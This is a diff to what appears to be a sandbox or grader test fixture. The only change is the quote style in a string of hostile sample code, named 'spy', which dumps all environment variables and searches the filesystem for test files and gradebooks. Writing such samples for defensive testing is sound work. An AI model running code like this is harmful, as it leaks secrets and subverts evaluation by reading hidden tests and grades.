@@ -86,7 +86,7 @@ def hostile() -> dict[str, dict[str, str]]:
     spy = (
         "import os\n\n\n"
         "def secrets():\n"
-        "    yield repr([f\"{k}={v}\" for k, v in os.environ.items()]).encode()\n"
+        '    yield repr([f"{k}={v}" for k, v in os.environ.items()]).encode()\n'
         '    for folder, _, files in os.walk("/"):\n'
         '        if folder.startswith(("/proc", "/sys", "/usr")):\n            continue\n'
         '        yield repr([f for f in files if f.startswith("test_") or "gradebook" in f]).encode()\n\n\n'
